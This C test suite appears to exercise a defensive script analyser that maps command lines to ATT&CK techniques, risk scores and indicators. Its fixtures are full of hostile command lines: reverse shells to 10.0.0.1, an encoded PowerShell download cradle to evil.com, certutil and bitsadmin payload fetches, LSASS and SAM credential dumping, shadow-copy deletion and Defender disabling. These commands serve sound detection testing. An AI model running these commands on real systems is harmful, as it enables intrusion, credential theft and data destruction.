/*
 * test_script.c - the script analyser on its own fixtures: ATT&CK
 * behaviours for every technique family of issue 5 (with the indicators
 * they carry), the prefilter, the risk score and bounds, the JSON and text
 * output, the rule tables' integrity, linear time on pathological input,
 * and `socpilot analyze-script` itself.  Indicator extraction has its own
 * suite, test_script_ioc.c.
 *
 * Layer-by-layer decoding is the decoding engine's own test suite; here
 * only inputs every engine must peel (PowerShell -EncodedCommand) are
 * used to check that indicators and behaviours are found in decoded
 * layers and tagged with the layer.
 */
#include "attack.h"
#include "attack_int.h"
#include "cli.h"
#include "ioc.h"
#include "script.h"
#include "t.h"

#include <fcntl.h>
#include <jansson.h>
#include <unistd.h>

/* ---- behaviours ------------------------------------------------------------ */

static struct sp_script_analysis AN;
static char behbuf[4096];

static const char *beh_dump(void)
{
    size_t o = 0;
    behbuf[0] = '\0';
    for (size_t i = 0; i < AN.n_behaviours && o + 32 < sizeof(behbuf); i++) {
        int w = snprintf(behbuf + o, sizeof(behbuf) - o, "%s%s", i ? " " : "",
                         AN.behaviours[i].tech->id);
        if (w > 0)
            o += (size_t)w;
    }
    return behbuf;
}

static bool analyse(const char *cmd)
{
    sp_script_analysis_fini(&AN);
    return sp_script_analyze(cmd, strlen(cmd), NULL, &AN) == SP_OK;
}

static bool has_tech(const char *id)
{
    for (size_t i = 0; i < AN.n_behaviours; i++)
        if (strcmp(AN.behaviours[i].tech->id, id) == 0)
            return true;
    return false;
}

static bool has_ioc(enum sp_ioc_type type, const char *value)
{
    for (size_t i = 0; i < AN.n_indicators; i++)
        if (AN.indicators[i].type == type && strcmp(AN.indicators[i].value, value) == 0)
            return true;
    return false;
}

/* cmd must be reported with technique id */
#define T_TECH(cmd, id)                                                        \
    do {                                                                       \
        if (!analyse(cmd))                                                     \
            T_FAILF("analysis of %s failed", cmd);                             \
        else if (!has_tech(id))                                                \
            T_FAILF("%s: expected %s; got [%s]", cmd, id, beh_dump());         \
    } while (0)

#define T_NO_TECH(cmd, id)                                                     \
    do {                                                                       \
        if (analyse(cmd) && has_tech(id))                                      \
            T_FAILF("%s: unexpected %s", cmd, id);                             \
    } while (0)

static void test_tech_interpreters(void)
{
    T_TECH("powershell.exe -NoProfile -Command \"Get-Date\"", "T1059.001");
    T_TECH("C:\\Windows\\System32\\cmd.exe /c whoami", "T1059.003");
    T_TECH("C:\\Windows\\System32\\cmd.exe /c whoami", "T1033");
    T_TECH("Start-Process \"C:\\tools\\setup_script.bat\"", "T1059.003");
    T_TECH("bash -c 'id; uname -a'", "T1059.004");
    T_TECH("cat /etc/shells", "T1059.004");
    T_TECH("for i in $(seq 1 5); do echo \"$i\"; sleep 1; done", "T1059.004");
    T_TECH("cscript //nologo C:\\Users\\Public\\run.vbs", "T1059.005");
    T_TECH("wscript.exe //e:jscript C:\\Users\\Public\\run.txt", "T1059.007");
    T_TECH("python3 -c 'import os; os.system(\"id\")'", "T1059.006");
    T_TECH("osascript -e 'do shell script \"id\"'", "T1059.002");
    T_TECH("mshta vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"calc\"\":close\")",
           "T1059.005");
    T_TECH("mshta.exe javascript:a=GetObject(\"script:https://x.io/p.sct\").Exec();close();",
           "T1059.007");
}

static void test_tech_encoded(void)
{
    /* "IEX (New-Object Net.WebClient).DownloadString('http://evil.com/a')" */
    const char *c = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGMAbwBtAC8AYQAnACkA";
    T_OK(analyse(c));
    T_OK(AN.deob.n_layers >= 2);
    T_OK(has_tech("T1027"));
    T_OK(has_tech("T1105"));
    T_OK(has_tech("T1059.001"));
    T_OK(has_tech("T1564.003"));
    T_OK(has_ioc(SP_IOC_URL, "http://evil.com/a"));
    T_OK(has_ioc(SP_IOC_DOMAIN, "evil.com"));
    for (size_t i = 0; i < AN.n_indicators; i++)
        if (AN.indicators[i].type == SP_IOC_URL)
            T_OK(AN.indicators[i].layer >= 1);
    size_t fl;
    T_CONTAINS(sp_script_final_text(&AN, &fl), "DownloadString");
    T_OK(AN.risk >= 50);
    T_OK(AN.n_reasons >= 4);
    T_EQ_STR(AN.language, "powershell");
    /* decoding at all is T1027; a plain line is not */
    T_NO_TECH("powershell -c Get-Date", "T1027");
    T_TECH("certutil -decode delme.b64 implant.exe", "T1140");
    T_TECH("echo aWQK | base64 -d | sh", "T1140");
    T_TECH("$b=[System.Convert]::FromBase64String($s); [IO.File]::WriteAllBytes('a.exe',$b)",
           "T1140");
    T_TECH("$b=[System.Convert]::FromBase64String($s); $t | Out-File a.txt", "T1027.013");
    T_TECH("certutil -encode in.exe out.txt", "T1027.013");
    /* Unicode dashes and invisible characters in a command */
    T_TECH("certutil \xe2\x80\x94urlcache \xe2\x80\x93split -f http://x.io/a a", "T1027");
}

static void test_tech_transfer(void)
{
    T_TECH("(New-Object Net.WebClient).DownloadFile('http://x.io/a.exe','a.exe')", "T1105");
    T_TECH("IEX (New-Object Net.WebClient).DownloadString('http://x.io/a')", "T1105");
    T_TECH("powershell iwr -Uri https://x.io/a -OutFile a", "T1105");
    T_TECH("Invoke-WebRequest https://x.io/a -OutFile a", "T1105");
    T_TECH("curl -sO https://x.io/a.sh", "T1105");
    T_TECH("wget -q http://x.io/a -O /tmp/a", "T1105");
    T_TECH("certutil.exe -urlcache -split -f http://x.io/a.exe a.exe", "T1105");
    T_TECH("bitsadmin /transfer j /download /priority high http://x.io/a %TEMP%\\a.exe", "T1105");
    T_TECH("bitsadmin /transfer j /download /priority high http://x.io/a %TEMP%\\a.exe", "T1197");
    T_TECH("Start-BitsTransfer -Source http://x.io/a -Destination a", "T1197");
    T_TECH("Start-BitsTransfer -Source http://x.io/a -Destination a", "T1105");
    T_TECH("scp adversary@adversary-host:/tmp/a.txt /tmp/", "T1105");
    T_TECH("nimgrab.exe https://x.io/LICENSE.txt out.txt", "T1105");
    T_TECH("expand \\\\webdav\\folder\\file.bat c:\\ADS\\file.bat", "T1105");
    T_TECH("type C:\\secret.txt > \\\\webdav\\share\\out.txt", "T1048.003");
    T_NO_TECH("echo see http://x.io/docs for help", "T1105");
}

static void test_tech_proxy_execution(void)
{
    T_TECH("mshta.exe evilfile.hta", "T1218.005");
    T_TECH("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "T1218.011");
    T_TECH("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";alert(1)", "T1059.007");
    T_TECH("regsvr32 /s /n /u /i:http://x.io/file.sct scrobj.dll", "T1218.010");
    T_TECH("msiexec /q /i http://x.io/a.msi", "T1218.007");
    T_TECH("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\InstallUtil.exe /U a.dll",
           "T1218.004");
    T_TECH("cmstp.exe /ni /s c:\\cmstp\\CorpVPN.inf", "T1218.003");
    T_TECH("odbcconf /a {REGSVR c:\\test\\test.dll}", "T1218.008");
    T_TECH("regasm.exe /U AllTheThingsx64.dll", "T1218.009");
    T_TECH("regsvcs.exe AllTheThingsx64.dll", "T1218.009");
    T_TECH("control.exe c:\\windows\\tasks\\evil.cpl", "T1218.002");
    T_TECH("hh.exe c:\\windows\\help\\evil.chm", "T1218.001");
    T_TECH("verclsid.exe /S /C {CLSID}", "T1218.012");
    T_TECH("mavinject.exe 3110 /INJECTRUNNING c:\\folder\\evil.dll", "T1218.013");
    T_TECH("mmc.exe -Embedding c:\\path\\to\\test.msc", "T1218.014");
    T_TECH("msedge.exe --disable-gpu-sandbox --gpu-launcher=\"C:\\Windows\\system32\\cmd.exe /c calc\"",
           "T1218.015");
    T_TECH("xwizard RunWizard {00000001-0000-0000-0000-0000FEEDACDC}", "T1218");
    T_TECH("msxsl.exe customers.xml script.xsl", "T1220");
    T_TECH("wmic process list /FORMAT:\"evil.xsl\"", "T1220");
    T_TECH("C:\\Windows\\Microsoft.NET\\Framework\\v4.0.30319\\msbuild.exe a.csproj", "T1127.001");
    T_TECH("csc.exe -out:Output.exe File.cs", "T1127");
    T_TECH("forfiles /p c:\\windows\\system32 /m notepad.exe /c calc.exe", "T1202");
    T_TECH("pcalua.exe -a calc.exe", "T1202");
    T_TECH("wmic process call create calc", "T1047");
    T_TECH("Invoke-WmiMethod -Path win32_process -Name create -ArgumentList notepad.exe", "T1047");
    T_TECH("pubprn.vbs 127.0.0.1 script:https://x.io/a.sct", "T1216.001");
}

static void test_tech_persistence_and_impact(void)
{
    T_TECH("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\a.exe",
           "T1547.001");
    T_TECH("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v u /d c:\\a.exe",
           "T1112");
    T_TECH("copy a.exe \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.exe\"",
           "T1547.001");
    T_TECH("schtasks /create /sc minute /mo 1 /tn x /tr c:\\a.exe", "T1053.005");
    T_TECH("Set-MpPreference -DisableRealtimeMonitoring $true", "T1562.001");
    T_TECH("Add-MpPreference -ExclusionPath C:\\", "T1562.001");
    T_TECH("sc stop WinDefend", "T1562.001");
    T_TECH("vssadmin delete shadows /all /quiet", "T1490");
    T_TECH("wbadmin delete catalog -quiet", "T1490");
    T_TECH("bcdedit /set {default} recoveryenabled no", "T1490");
    T_TECH("wmic shadowcopy delete", "T1490");
    T_TECH("wevtutil cl Security", "T1070.001");
    T_TECH("net user /domain", "T1087.002");
    T_TECH("net group \"domain admins\" /domain", "T1069.002");
    T_TECH("net localgroup administrators", "T1069.001");
    T_TECH("cmd /c echo x > c:\\temp\\file.txt:hidden.exe", "T1564.004");
    T_NO_TECH("copy C:\\a.txt D:\\b.txt", "T1564.004");
    T_NO_TECH("powershell [Convert]::ToBase64String($b); $env:TEMP; http://a.b:80/x",
              "T1564.004");
}

static void test_tech_credentials_and_lateral(void)
{
    T_TECH("procdump.exe -accepteula -ma lsass.exe C:\\temp\\l.dmp", "T1003.001");
    T_TECH("rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\l.dmp full",
           "T1003.001");
    T_TECH("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "T1003.001");
    T_TECH("reg save HKLM\\SAM c:\\t\\sam.bak", "T1003.002");
    T_TECH("ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full c:\\x\" q q", "T1003.003");
    T_TECH("mstsc.exe /v:10.0.0.5", "T1021.001");
    T_TECH("copy a.exe \\\\srv01\\admin$\\a.exe", "T1021.002");
    T_TECH("psexec.exe \\\\srv01 -s cmd.exe", "T1021.002");
    T_TECH("Invoke-Command -ComputerName srv01 -ScriptBlock { whoami }", "T1021.006");
    T_TECH("winrs -r:srv01 cmd", "T1021.006");
}

static void test_tech_reverse_shells(void)
{
    T_TECH("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "T1095");
    T_TECH("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "T1059.004");
    T_TECH("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "T1571");
    T_NO_TECH("bash -i >& /dev/tcp/10.0.0.1/443 0>&1", "T1571");
    T_TECH("nc -e /bin/sh 10.0.0.1 4242", "T1095");
    T_TECH("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f",
           "T1095");
    T_TECH("socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4242", "T1095");
    const char *py = "python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
                     "socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);"
                     "subprocess.call([\"/bin/sh\",\"-i\"])'";
    T_TECH(py, "T1095");
    T_TECH(py, "T1059.006");
    T_TECH(py, "T1059.004");
    T_TECH("php -r '$sock=fsockopen(\"10.0.0.1\",4242);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
           "T1095");
    T_TECH("powershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);"
           "$stream = $client.GetStream()\"", "T1095");
}

static void test_benign_and_prefilter(void)
{
    static const char *const benign[] = {
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --field-trial-handle=1720,i,4838963393385914101",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
        "notepad.exe C:\\Users\\bob\\Documents\\notes.txt",
        "C:\\Windows\\Explorer.EXE",
        "/usr/lib/systemd/systemd-journald",
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(benign); i++) {
        if (sp_script_worth_analyzing(benign[i], strlen(benign[i])))
            T_FAILF("prefilter passed benign line %s", benign[i]);
        T_OK(analyse(benign[i]));
        if (AN.n_behaviours)
            T_FAILF("%s: unexpected behaviours [%s]", benign[i], beh_dump());
        T_OK(AN.risk < 10);
    }
    static const char *const worth[] = {
        "powershell -enc SQBFAFgA",
        "cmd /c whoami",
        "C:\\x\\certutil.exe -urlcache -f http://a.b/c d",
        "ping 10.1.2.3",
        "curl https://x.io",
        "c^m^d /c^ d^i^r",
        "%COMSPEC:~0,1%md",
        "type \\\\srv\\share\\a.txt",
        "foo.exe SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        "conhost.exe \"notepad.exe\"",
        "code.exe tunnel --accept-server-license-terms",
        "msedgewebview2.exe --utility-cmd-prefix=\"calc.exe\"",
        "Write-Host ('Hel'+'lo') -ForegroundColor Green",
        ".(\"{0}{2}{1}\" -f'Write','t','-Hos') 'x'",
        "[console]::WriteLine('x')",
        "-Join ((87 , 114 , 105 , 116, 101 , 45,72,111 ,115 ,116, 32 , 39 , 72 ,101))",
        "FOR /F \"delims=N8WLC. tokens=2\" %6 IN ('ftype^|find \"lCo\"')DO %6",
        "Pester.bat ;calc.exe",
        "\"C:\\tools\\T1105.bat\" 1>NUL",
    };
    for (size_t i = 0; i < SP_ARRAY_SIZE(worth); i++)
        if (!sp_script_worth_analyzing(worth[i], strlen(worth[i])))
            T_FAILF("prefilter rejected %s", worth[i]);
    T_OK(sp_attack_prefilter("certutil -urlcache -f http://a.io/b c", 37));
    T_OK(!sp_attack_prefilter("notepad.exe C:\\notes.txt", 24));
    T_OK(!sp_script_worth_analyzing("", 0));
    T_OK(!sp_script_worth_analyzing(NULL, 5));
}

static void test_risk_and_bounds(void)
{
    T_OK(analyse("vssadmin delete shadows /all /quiet & wevtutil cl Security & "
                 "procdump -ma lsass.exe l.dmp & certutil -urlcache -f http://x.io/a a"));
    T_EQ_INT(AN.risk, 100);
    /* reasons are sorted, largest first */
    for (size_t i = 1; i < AN.n_reasons; i++)
        T_OK(AN.reasons[i - 1].points >= AN.reasons[i].points);
    /* behaviours are sorted, most severe first */
    for (size_t i = 1; i < AN.n_behaviours; i++)
        T_OK(AN.behaviours[i - 1].tech->weight >= AN.behaviours[i].tech->weight);
    /* a small behaviour cap is reported as a bound */
    struct sp_script_opts o;
    sp_script_opts_default(&o);
    o.max_behaviours = 2;
    o.max_indicators = 1;
    sp_script_analysis_fini(&AN);
    const char *c = "vssadmin delete shadows & wevtutil cl x & curl http://a.io/x http://b.io/y";
    T_EQ_INT(sp_script_analyze(c, strlen(c), &o, &AN), SP_OK);
    T_EQ_INT(AN.n_behaviours, 2);
    T_OK(AN.bounds_hit & SP_SCRIPT_BOUND_BEHAVIOURS);
    T_OK(AN.bounds_hit & SP_SCRIPT_BOUND_INDICATORS);
    /* max_layers 0: the input only, still analysed */
    sp_script_opts_default(&o);
    o.deob.max_layers = 0;
    sp_script_analysis_fini(&AN);
    c = "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";
    T_EQ_INT(sp_script_analyze(c, strlen(c), &o, &AN), SP_OK);
    T_EQ_INT(AN.deob.n_layers, 1);
    T_OK(has_tech("T1059.001"));
    /* an oversized input layer is scanned up to the output bound */
    sp_script_opts_default(&o);
    o.deob.max_output = (size_t)256 << 10;
    size_t big = (size_t)2 << 20;
    char *huge = malloc(big);
    memset(huge, 'a', big);
    memcpy(huge, "vssadmin delete shadows ", 24);
    memcpy(huge + big - 20, " http://tail.io/x   ", 20);
    sp_script_analysis_fini(&AN);
    T_EQ_INT(sp_script_analyze(huge, big, &o, &AN), SP_OK);
    T_OK(AN.bounds_hit & SP_DEOB_BOUND_OUTPUT);
    T_OK(has_tech("T1490"));
    T_OK(!has_ioc(SP_IOC_URL, "http://tail.io/x"));
    free(huge);
    /* errors */
    struct sp_script_analysis x;
    T_EQ_INT(sp_script_analyze(NULL, 3, NULL, &x), SP_ERR_INVALID);
    T_EQ_INT(sp_script_analyze("a", 1, NULL, NULL), SP_ERR_INVALID);
    T_EQ_INT(sp_script_analyze("", 0, NULL, &x), SP_OK);
    T_EQ_INT(x.n_behaviours, 0);
    sp_script_analysis_fini(&x);
    sp_script_analysis_fini(&x);          /* twice is fine */
    T_EQ_STR(sp_script_bound_name(0), "layers");
    T_EQ_STR(sp_script_bound_name(8), "indicators");
    T_OK(sp_script_bound_name(5) == NULL);
}

/* ---- output -------------------------------------------------------------------- */

static void test_json_output(void)
{
    const char *c = "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AZQB2AGkAbAAuAGMAbwBtAC8AYQAnACkA";
    T_OK(analyse(c));
    struct sp_buf b;
    struct sp_jw w;
    sp_buf_init(&b, 0);
    sp_jw_init(&w, &b);
    sp_script_write_json(&AN, &w);
    T_OK(sp_jw_ok(&w));
    json_error_t jerr;
    json_t *j = json_loadb(b.data, b.len, 0, &jerr);
    T_OK(j != NULL);
    if (j) {
        T_OK(json_is_integer(json_object_get(j, "risk")));
        T_OK(json_is_string(json_object_get(j, "language")));
        T_OK(json_is_array(json_object_get(j, "reasons")));
        T_OK(json_is_array(json_object_get(j, "bounds_hit")));
        json_t *layers = json_object_get(j, "layers");
        T_OK(json_array_size(layers) >= 2);
        T_EQ_STR(json_string_value(json_object_get(json_array_get(layers, 0), "text")), c);
        T_CONTAINS(json_string_value(json_object_get(j, "decoded")), "DownloadString");
        json_t *inds = json_object_get(j, "indicators");
        bool url = false;
        for (size_t i = 0; i < json_array_size(inds); i++) {
            json_t *e = json_array_get(inds, i);
            if (strcmp(json_string_value(json_object_get(e, "type")), "url") == 0 &&
                strcmp(json_string_value(json_object_get(e, "value")), "http://evil.com/a") == 0)
                url = json_integer_value(json_object_get(e, "layer")) >= 1;
        }
        T_OK(url);
        json_t *beh = json_object_get(j, "behaviours");
        T_OK(json_array_size(beh) >= 3);
        json_t *b0 = json_array_get(beh, 0);
        T_OK(json_is_string(json_object_get(b0, "technique")));
        T_OK(json_is_string(json_object_get(b0, "name")));
        T_OK(json_is_string(json_object_get(b0, "tactic")));
        T_OK(json_is_string(json_object_get(b0, "evidence")));
        T_OK(json_is_integer(json_object_get(b0, "layer")));
        json_decref(j);
    }
    /* arbitrary bytes still give valid JSON */
    const char bad[] = "cmd /c echo \xff\xfe\x01\x02 http://x.io/\xc3\x28";
    sp_script_analysis_fini(&AN);
    T_EQ_INT(sp_script_analyze(bad, sizeof(bad) - 1, NULL, &AN), SP_OK);
    sp_buf_reset(&b);
    sp_jw_init(&w, &b);
    sp_script_write_json(&AN, &w);
    j = json_loadb(b.data, b.len, 0, &jerr);
    T_OK(j != NULL);
    json_decref(j);
    sp_buf_fini(&b);
}

static void test_text_output(void)
{
    T_OK(analyse("certutil.exe -urlcache -split -f http://7-zip.org/a/7z.exe 7z.exe"));
    char *mem = NULL;
    size_t ml = 0;
    FILE *f = open_memstream(&mem, &ml);
    T_OK(f != NULL);
    if (!f)
        return;
    sp_script_print_text(&AN, f);
    fclose(f);
    T_CONTAINS(mem, "risk: ");
    T_CONTAINS(mem, "layers (");
    T_CONTAINS(mem, "url          http://7-zip.org/a/7z.exe");
    T_CONTAINS(mem, "T1105");
    T_CONTAINS(mem, "Ingress Tool Transfer");
    free(mem);
    /* control bytes are escaped */
    T_OK(analyse("echo \x1b[31mred"));
    mem = NULL;
    f = open_memstream(&mem, &ml);
    sp_script_print_text(&AN, f);
    fclose(f);
    T_OK(strchr(mem, 0x1b) == NULL);
    T_CONTAINS(mem, "\\x1b");
    free(mem);
}

/* ---- tables ---------------------------------------------------------------------- */

static void test_tables(void)
{
    size_t n = sp_attack_technique_count();
    T_OK(n > 50);
    for (size_t i = 1; i < n; i++)
        if (strcmp(sp_attack_technique_at(i - 1)->id, sp_attack_technique_at(i)->id) >= 0)
            T_FAILF("technique table not sorted at %s", sp_attack_technique_at(i)->id);
    for (size_t i = 0; i < n; i++) {
        const struct sp_attack_technique *t = sp_attack_technique_at(i);
        T_OK(t->weight <= 40 && t->name[0] && t->tactic[0]);
    }
    T_OK(sp_attack_lookup("T9999") == NULL);
    T_EQ_STR(sp_attack_lookup("T1218.011")->name, "System Binary Proxy Execution: Rundll32");
    /* every rule names a known technique; a program's rows are contiguous */
    for (size_t i = 0; i < sp_attack_n_prog_rules; i++) {
        const struct sp_attack_prog_rule *r = &sp_attack_prog_rules[i];
        if (!sp_attack_lookup(r->tech))
            T_FAILF("program rule %s names unknown %s", r->prog, r->tech);
        for (size_t j = i + 2; j < sp_attack_n_prog_rules; j++)
            if (strcmp(sp_attack_prog_rules[j].prog, r->prog) == 0 &&
                strcmp(sp_attack_prog_rules[j - 1].prog, r->prog) != 0)
                T_FAILF("rows of %s are not contiguous", r->prog);
        for (const char *p = r->prog; *p; p++)
            if (*p >= 'A' && *p <= 'Z')
                T_FAILF("program name %s not lower-case", r->prog);
    }
    T_OK(sp_attack_n_kw_rules <= SP_ATTACK_MAX_KW_RULES);
    for (size_t i = 0; i < sp_attack_n_kw_rules; i++) {
        const struct sp_attack_kw_rule *r = &sp_attack_kw_rules[i];
        if (!sp_attack_lookup(r->tech))
            T_FAILF("keyword rule %s names unknown %s", r->kw, r->tech);
        T_OK(strlen(r->kw) >= 2);
        for (const char *p = r->kw; *p; p++)
            if (*p >= 'A' && *p <= 'Z')
                T_FAILF("keyword %s not lower-case", r->kw);
    }
    T_OK(sp_attack_known_program("CertUtil.EXE", 12));
    T_OK(sp_attack_known_program("rundll32", 8));
    T_OK(!sp_attack_known_program("chrome.exe", 10));     /* quiet */
    T_OK(!sp_attack_known_program("svchost", 7));
    T_EQ_STR(sp_attack_guess_language("Write-Host 'x'; $a -join ''", 27), "powershell");
    T_EQ_STR(sp_attack_guess_language("echo aGk= | base64 -d | sh", 26), "sh");
}

/* Repeating units that once made a pass revisit the same bytes: every
 * extraction and scan must stay linear on 1 MiB of them. */
static void test_pathological_inputs_stay_linear(void)
{
    static const char *const units[] = {
        "cmd ", "http://a$", "http://a.b/", "connect( ", "a.b:c ", "a:b:c:d:e ",
        "\\\\a\\b ", "C:\\a\\b.txt ", "port=1 ", "useragent ", "1.2.3.4 ", "-w -w ",
        "%a%%b% ", "[.]hxxp", "\"C:\\x y ", "a",
    };
    struct sp_arena ar;
    sp_arena_init(&ar, 0);
    for (size_t u = 0; u < SP_ARRAY_SIZE(units); u++) {
        size_t ul = strlen(units[u]), n = ((size_t)1 << 20) / ul;
        char *b = malloc(n * ul + 1);
        for (size_t i = 0; i < n; i++)
            memcpy(b + i * ul, units[u], ul);
        b[n * ul] = '\0';
        int64_t t0 = sp_now_ms();
        struct sp_ioc_list il;
        struct sp_attack_list al;
        sp_arena_reset(&ar);
        sp_ioc_list_init(&il, &ar, 0);
        sp_attack_list_init(&al, &ar, 0);
        T_EQ_INT(sp_ioc_extract(&il, b, n * ul, 0), SP_OK);
        T_EQ_INT(sp_attack_scan(&al, b, n * ul, 0), SP_OK);
        int64_t ms = sp_now_ms() - t0;
        if (ms > 5000)
            T_FAILF("unit \"%s\" x %zu took %lld ms", units[u], n, (long long)ms);
        free(b);
    }
    sp_arena_fini(&ar);
}

/* ---- the CLI ------------------------------------------------------------------------ */

/* Runs sp_cmd_analyze_script with stdin from `in` and stdout captured into
 * a malloc'd string (*out). */
static int run_cli(int argc, char **argv, const char *in, char **out)
{
    const char *tmp = getenv("TMPDIR");
    if (!tmp || !*tmp)
        tmp = "/tmp";
    char inpath[512], outpath[512];
    snprintf(inpath, sizeof(inpath), "%s/sp_script_in_XXXXXX", tmp);
    snprintf(outpath, sizeof(outpath), "%s/sp_script_out_XXXXXX", tmp);
    int infd = mkstemp(inpath), outfd = mkstemp(outpath);
    if (infd < 0 || outfd < 0)
        return -1;
    if (in && write(infd, in, strlen(in)) != (ssize_t)strlen(in))
        return -1;
    lseek(infd, 0, SEEK_SET);
    fflush(stdout);
    int save_in = dup(0), save_out = dup(1), save_err = dup(2);
    int devnull = open("/dev/null", O_WRONLY);
    dup2(infd, 0);
    dup2(outfd, 1);
    dup2(devnull, 2);
    clearerr(stdin);
    int rc = sp_cmd_analyze_script(argc, argv);
    fflush(stdout);
    dup2(save_in, 0);
    dup2(save_out, 1);
    dup2(save_err, 2);
    clearerr(stdin);
    close(save_in);
    close(save_out);
    close(save_err);
    close(devnull);
    close(infd);
    size_t len = 0;
    struct sp_error err;
    *out = sp_read_file(outpath, 1 << 24, &len, &err);
    close(outfd);
    unlink(inpath);
    unlink(outpath);
    return rc;
}

static void test_cli(void)
{
    char *out = NULL;
    char *a_help[] = {"analyze-script", "--help", NULL};
    T_EQ_INT(run_cli(2, a_help, NULL, &out), 0);
    T_CONTAINS(out, "usage: socpilot analyze-script");
    free(out);

    char *a_none[] = {"analyze-script", NULL};
    T_EQ_INT(run_cli(1, a_none, NULL, &out), 2);
    free(out);
    char *a_bad[] = {"analyze-script", "--frobnicate", "x", NULL};
    T_EQ_INT(run_cli(3, a_bad, NULL, &out), 2);
    free(out);
    char *a_layers[] = {"analyze-script", "--max-layers", "x", "cmd", NULL};
    T_EQ_INT(run_cli(4, a_layers, NULL, &out), 2);
    free(out);
    char *a_two[] = {"analyze-script", "a", "b", NULL};
    T_EQ_INT(run_cli(3, a_two, NULL, &out), 2);
    free(out);
    char *a_nofile[] = {"analyze-script", "--file", "/nonexistent/x.ps1", NULL};
    T_EQ_INT(run_cli(3, a_nofile, NULL, &out), 1);
    free(out);

    char *a_text[] = {"analyze-script", "certutil -urlcache -f http://x.io/a a", NULL};
    T_EQ_INT(run_cli(2, a_text, NULL, &out), 0);
    T_CONTAINS(out, "T1105");
    T_CONTAINS(out, "http://x.io/a");
    free(out);

    char *a_json[] = {"analyze-script", "--json", "--max-layers", "4",
                      "vssadmin delete shadows /all", NULL};
    T_EQ_INT(run_cli(5, a_json, NULL, &out), 0);
    json_error_t jerr;
    json_t *j = out ? json_loads(out, 0, &jerr) : NULL;
    T_OK(j != NULL);
    T_OK(j && json_integer_value(json_object_get(j, "risk")) >= 35);
    json_decref(j);
    free(out);

    char *a_stdin[] = {"analyze-script", "--json", "--file", "-", NULL};
    T_EQ_INT(run_cli(4, a_stdin, "wevtutil cl Security\n", &out), 0);
    T_CONTAINS(out, "T1070.001");
    free(out);

    const char *in =
        "{\"id\": \"a-1\", \"command_line\": \"certutil -urlcache -f http://x.io/a a\"}\n"
        "\n"
        "{\"id\": 42, \"command_line\": \"whoami\"}\n"
        "this is not json\n"
        "{\"id\": [1,2], \"commandline\": \"x\"}\n"
        "[1,2,3]\n";
    char *a_jsonl[] = {"analyze-script", "--jsonl", NULL};
    T_EQ_INT(run_cli(2, a_jsonl, in, &out), 0);
    T_OK(out != NULL);
    if (out) {
        char *save = NULL;
        const char *want_ids[] = {"\"a-1\"", "42", "null", "[1,2]", "null"};
        bool want_err[] = {false, false, true, true, true};
        size_t k = 0;
        for (char *ln = strtok_r(out, "\n", &save); ln; ln = strtok_r(NULL, "\n", &save), k++) {
            json_t *o = json_loads(ln, 0, &jerr);
            T_OK(o != NULL);
            if (!o || k >= SP_ARRAY_SIZE(want_ids))
                continue;
            char *id = json_dumps(json_object_get(o, "id"), JSON_ENCODE_ANY | JSON_COMPACT);
            T_EQ_STR(id, want_ids[k]);
            free(id);
            T_EQ_INT(json_object_get(o, "error") != NULL, want_err[k]);
            if (!want_err[k])
                T_OK(json_is_array(json_object_get(o, "behaviours")));
            json_decref(o);
        }
        T_EQ_INT(k, 5);
    }
    free(out);
}

int main(void)
{
    t_prog = "test_script";
    T_RUN(test_tech_interpreters);
    T_RUN(test_tech_encoded);
    T_RUN(test_tech_transfer);
    T_RUN(test_tech_proxy_execution);
    T_RUN(test_tech_persistence_and_impact);
    T_RUN(test_tech_credentials_and_lateral);
    T_RUN(test_tech_reverse_shells);
    T_RUN(test_benign_and_prefilter);
    T_RUN(test_risk_and_bounds);
    T_RUN(test_json_output);
    T_RUN(test_text_output);
    T_RUN(test_tables);
    T_RUN(test_pathological_inputs_stay_linear);
    T_RUN(test_cli);
    sp_script_analysis_fini(&AN);
    return t_done();
}
